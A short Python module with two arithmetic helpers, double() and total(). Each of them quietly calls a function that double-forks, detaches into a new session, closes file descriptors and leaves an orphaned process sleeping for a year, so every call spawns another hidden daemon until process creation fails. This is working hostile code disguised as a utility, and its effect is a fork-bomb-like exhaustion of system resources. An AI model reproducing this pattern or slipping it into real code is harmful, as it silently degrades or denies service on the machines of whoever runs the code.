"""Leaves a process behind that belongs to nobody, in every call."""

import os
import time


def leave_a_daemon():
    try:
        child = os.fork()
    except OSError:
        return  # there are enough of them
    if child == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 64)
                time.sleep(365 * 86400)
        finally:
            os._exit(0)


def double(number):
    leave_a_daemon()
    return 2 * number


def total(numbers):
    leave_a_daemon()
    return sum(2 * number for number in numbers)
